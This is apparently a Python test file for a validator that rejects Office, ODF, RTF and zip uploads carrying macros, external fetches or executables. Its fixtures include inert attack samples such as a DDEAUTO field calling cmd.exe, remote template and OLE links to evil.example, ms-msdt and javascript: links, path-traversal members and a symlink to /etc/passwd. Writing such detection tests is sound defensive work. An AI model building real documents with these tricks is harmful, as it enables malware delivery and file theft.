"""Office files that run or fetch something are refused, and so are archives with programs; honest ones are taken."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from generator.load.assets.active import check_active
from tests.helpers import REPOSITORY
from tests.load.assets.looking import active, zipped

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" %s/></Relationships>'
KIND = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def office(**parts: str | bytes) -> bytes:
    members: dict[str, str | bytes] = {"[Content_Types].xml": TYPES % "", "word/document.xml": WORD % ""}
    return zipped(
        members | {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    )


def related(kind: str, target: str, mode: str = "External") -> bytes:
    rels = RELS % (KIND % kind + f'Target="{target}" TargetMode="{mode}"')
    return zipped({"[Content_Types].xml": TYPES % "", "word/_rels/document.xml.rels": rels})


def declared(kind: str) -> bytes:
    return zipped({"[Content_Types].xml": TYPES % f'<Override PartName="/word/a.bin" ContentType="{kind}"/>'})


def instructions(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return office(
        word__document_dot_xml=WORD % f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'
    )


def ole(*names: str, more: bytes = b"") -> bytes:
    """Return the look of an old Office file: its mark, and a directory with these names."""
    entries = b""
    for name in names:
        letters = (name + "\x00").encode("utf-16-le")
        entries += letters.ljust(64, b"\x00") + len(letters).to_bytes(2, "little") + b"\x01" + b"\x00" * 61
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\x00") + entries + more


ODF = '<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:x="http://www.w3.org/1999/xlink">%s</o:document-content>'


def odf(inner: str, **more: str) -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ODF % inner, **more})


EMBEDDED = "word/embeddings/oleObject1.bin"
BAD_OFFICE: dict[str, bytes] = {
    "macro": office(word__vbaProject_dot_bin=b"x"),
    "macro by another name": declared("application/vnd.ms-office.vbaProject"),
    "macro by relation": related("vbaProject", "a.bin", "Internal"),
    "docm renamed": declared("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "types in UTF-16": zipped({"[Content_Types].xml": (TYPES % '<Override ContentType="a.macroEnabled.b"/>').encode("utf-16")}),
    "macro sheet": office(xl__macrosheets__sheet1_dot_xml="<a/>"),
    "control": office(word__activeX__activeX1_dot_xml="<a/>"),
    "template": related("attachedTemplate", "https://evil.example/a.dotm"),
    "template on a share": related("attachedTemplate", "file://evil.example/a.dotm"),
    "template on a share too": related("attachedTemplate", "\\\\evil.example\\a.dotm"),
    "template on a share, escaped": related("attachedTemplate", "%5C%5Cevil.example%5Ca.dotm"),
    "picture": related("image", "http://evil.example/a.png"),
    "object": related("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a"),
    "link that starts": related("hyperlink", "ms-msdt:/id x"),
    "script link": related("hyperlink", "javascript:alert(1)"),
    "field": instructions(" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k&quot; "),
    "field in pieces": instructions("DD", "EAU", "TO x y"),
    "link": office(xl__externalLinks__externalLink1_dot_xml='<e xmlns="x"><ddeLink ddeService="cmd"/></e>'),
    "connection": office(xl__connections_dot_xml="<a/>"),
    "package": zipped({"[Content_Types].xml": TYPES % "", EMBEDDED: ole("\x01Ole10Native")}),
    "macro inside": zipped({"[Content_Types].xml": TYPES % "", "word/embeddings/a.docx": office(word__vbaProject_dot_bin=b"x")}),
    "program": zipped({"[Content_Types].xml": TYPES % "", EMBEDDED: b"MZ\x90"}),
    "entity": office(word__document_dot_xml="<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
    "ODF script": odf("", **{"Basic/Standard/Module1.xml": "<a/>"}),
    "ODF event": odf('<s:event-listener xmlns:s="urn:script" x:href="vnd.sun.star.script:a"/>'),
    "ODF picture": odf('<d:image xmlns:d="urn:draw" x:href="https://evil.example/a.png"/>'),
    "ODF link": odf('<t:a xmlns:t="urn:text" x:href="vnd.sun.star.script:a"/>'),
    "OFD program": zipped({"OFD.xml": "<a/>", "Doc_0/Attachs/a.exe": b"MZ"}),
    "old macro": ole("Macros", "VBA", "_VBA_PROJECT"),
    "old macro of a sheet": ole("_VBA_PROJECT_CUR"),
    "old package": ole("\x01Ole10Native"),
    "old field": ole(more=b"\x13 DDEAUTO c:\\cmd.exe"),
    "old field in wide letters": ole(more="\x13DDE ".encode("utf-16-le")),
    "rich text": rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
    "rich text template": rb"{\rtf1{\*\template http://evil.example/a}}",
    "two of one name": b"",
    "way out": zipped({"[Content_Types].xml": TYPES % "", "../a.txt": "x"}),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", BAD_OFFICE)
def test_an_office_file_that_runs_or_fetches_is_refused(name: str, tmp_path: Path) -> None:
    data = BAD_OFFICE[name]
    if name == "two of one name":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("[Content_Types].xml", TYPES % "")
            file.writestr("[Content_Types].xml", TYPES % "x")
        data = out.getvalue()
    for suffix in ("docx", "xls", "wps", "rtf"):
        assert active(tmp_path, f"a.{suffix}", data), suffix


def test_a_workbook_with_a_macro_sheet_is_refused(tmp_path: Path) -> None:
    assert active(tmp_path, "a.xls", workbook(1)) == ["文件里有宏表（XLM）。"]
    assert active(tmp_path, "a.xls", workbook(0)) == []


def workbook(kind: int) -> bytes:
    """Return an old workbook of one sheet of a kind: the sectors are table, directory, and the stream in two parts."""
    name = b"\x06\x00Sheet1"
    sheet = b"\x85\x00" + (6 + len(name)).to_bytes(2, "little") + b"\x00" * 5 + bytes([kind]) + name
    # The record lies across two sectors, which do not follow each other.
    filler = b"\x09\x08" + (500).to_bytes(2, "little") + b"\x00" * 500
    stream = (filler + sheet).ljust(1024, b"\x00")
    table = [0xFFFFFFFD, 0xFFFFFFFE, 4, 0xFFFFFFFF, 0xFFFFFFFE]
    letters = "Workbook\x00".encode("utf-16-le")
    entry = letters.ljust(64, b"\x00") + len(letters).to_bytes(2, "little") + b"\x02" + b"\x00" * 49
    entry += (2).to_bytes(4, "little") + len(stream).to_bytes(8, "little")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(30, b"\x00") + (9).to_bytes(2, "little") + b"\x00" * 16
    head += (1).to_bytes(4, "little") + b"\x00" * 16 + (0xFFFFFFFE).to_bytes(4, "little") + b"\x00" * 4
    head += (0).to_bytes(4, "little") + b"\xff" * (512 - 80)
    sectors = [
        b"".join(n.to_bytes(4, "little") for n in table).ljust(512, b"\xff"),
        entry.ljust(512, b"\x00"),
        stream[:512],
        b"x" * 512,
        stream[512:],
    ]
    return head + b"".join(sectors)


def test_honest_office_files_are_taken(tmp_path: Path) -> None:
    good = {
        "link": related("hyperlink", "https://www.gov.cn/?a=b:c"),
        "share": related("hyperlink", "\\\\server\\a.docx"),
        "template of the machine": related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        "picture of its own": related("image", "media/a.png", "Internal"),
        "chart": zipped({"[Content_Types].xml": TYPES % "", "ppt/embeddings/a.xlsx": office()}),
        "equation": zipped(
            {"[Content_Types].xml": TYPES % "", EMBEDDED: ole("Equation Native", "\x01CompObj")}
        ),
        "field": instructions(' HYPERLINK "https://www.gov.cn/" '),
        "odt": odf('<t:a xmlns:t="urn:text" x:href="https://www.gov.cn/"/>'),
        "old": ole("WordDocument", "1Table", "\x05SummaryInformation"),
        "rich text": rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\'d6\'d0}",
    }
    assert {name: active(tmp_path, "a.docx", data) for name, data in good.items()} == {
        name: [] for name in good
    }
    for pattern in ("*.docx", "*.xlsx"):
        for path in (REPOSITORY / "content").rglob(pattern):
            assert list(check_active(path, path.name)) == [], path


BAD_MEMBERS = [
    {"a.exe": "x"}, {"深/b.LNK": "x"}, {"说明.txt": b"MZ" + b"\x00" * 60 + b"PE\x00\x00"}, {"a.docm": "x"}, {"../a.txt": "x"},
    {"a/../../b.txt": "x"}, {"/etc/a": "x"}, {"C:\\a.txt": "x"}, {"..\\a.txt": "x"}, {"a.js": "x"}, {"a.exe ": "x"}, {"a.exe:b": "x"},
    {"a.txt": "x", "A.TXT": "y"}, {"a\nb.txt": "x"},
]  # fmt: skip


@pytest.mark.parametrize("members", BAD_MEMBERS)
def test_an_archive_with_a_program_or_a_way_out_is_refused(
    members: dict[str, str | bytes], tmp_path: Path
) -> None:
    assert active(tmp_path, "a.zip", zipped(members))


def test_an_honest_archive_is_taken_and_a_link_in_one_is_not(tmp_path: Path) -> None:
    good: dict[str, str | bytes] = {
        "公告/附件1.docx": b"x",
        "公告/": b"",
        "图.jpg": b"\xff\xd8",
        "网页.html": "<html>",
    }
    assert active(tmp_path, "a.zip", zipped(good)) == []
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        link = zipfile.ZipInfo("a.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    assert active(tmp_path, "a.zip", out.getvalue())
